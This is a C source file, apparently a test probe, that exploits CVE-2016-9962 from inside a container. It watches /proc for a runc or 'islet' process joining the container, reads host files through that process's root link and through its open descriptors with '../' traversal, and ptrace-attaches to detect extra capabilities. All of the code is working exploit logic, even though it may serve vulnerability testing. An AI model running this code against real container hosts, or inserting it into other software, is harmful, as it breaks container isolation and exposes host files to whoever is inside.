/*
 * CVE-2016-9962: waits in a container for a process that enters it, and reaches for what that process still has of the
 * host. `inject FILE` prints "root TEXT" when it has read the file through the process's root, "descriptor TEXT" when
 * through one of its descriptors, "power" when it has attached to the process as a debugger while that had capabilities
 * which this one lacks, and "seen" for each time that it found such a process. Ends when its standard input does.
 */
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#define UP "/../../../../../../../../../../../.."

static ssize_t read_file(const char *path, char *text, size_t size) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return -1;
  ssize_t length = read(fd, text, size - 1);
  close(fd);
  if (length < 0) return -1;
  text[length] = 0;
  return length;
}

static void say(const char *what, const char *value) {
  printf("%s %s\n", what, value);
  fflush(stdout);
}

static bool is_entering(int pid) {
  char path[64];
  char name[32];
  snprintf(path, sizeof(path), "/proc/%d/comm", pid);
  return read_file(path, name, sizeof(name)) > 0 && (strncmp(name, "islet", 5) == 0 || strncmp(name, "runc", 4) == 0);
}

static unsigned long long capabilities(const char *pid) {
  char path[64];
  char text[4096];
  snprintf(path, sizeof(path), "/proc/%s/status", pid);
  if (read_file(path, text, sizeof(text)) < 0) return 0;
  const char *line = strstr(text, "CapEff:");
  return line ? strtoull(line + 7, NULL, 16) : 0;
}

static void read_through_root(int pid, const char *file) {
  char path[4096];
  char text[256];
  snprintf(path, sizeof(path), "/proc/%d/root%s", pid, file);
  if (read_file(path, text, sizeof(text)) > 0) say("root", text);
}

/* From a directory of the host all of it is in reach. */
static void read_through_descriptors(int pid, const char *file) {
  char path[4096];
  char text[256];
  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
  DIR *directory = opendir(path);
  if (!directory) return;
  for (struct dirent *entry; (entry = readdir(directory));) {
    snprintf(path, sizeof(path), "/proc/%d/fd/%s" UP "%s", pid, entry->d_name, file);
    if (atoi(entry->d_name) > 2 && read_file(path, text, sizeof(text)) > 0) say("descriptor", text);
  }
  closedir(directory);
}

static void attach(int pid) {
  char number[16];
  snprintf(number, sizeof(number), "%d", pid);
  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) return;
  ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
  waitpid(pid, NULL, __WALL);
  if (is_entering(pid) && capabilities(number) & ~capabilities("self")) say("power", "");
  ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void attack(int pid, const char *file) {
  if (!is_entering(pid)) return;
  say("seen", "");
  read_through_root(pid, file);
  read_through_descriptors(pid, file);
  attach(pid);
}

static bool is_over(void) {
  struct pollfd input = {.fd = 0, .events = POLLIN};
  return poll(&input, 1, 0) != 0;
}

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  say("waiting", "");
  while (!is_over()) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc));) {
      int pid = atoi(entry->d_name);
      if (pid > 1 && pid != getpid()) attack(pid, argv[1]);
    }
    closedir(proc);
  }
  return 0;
}
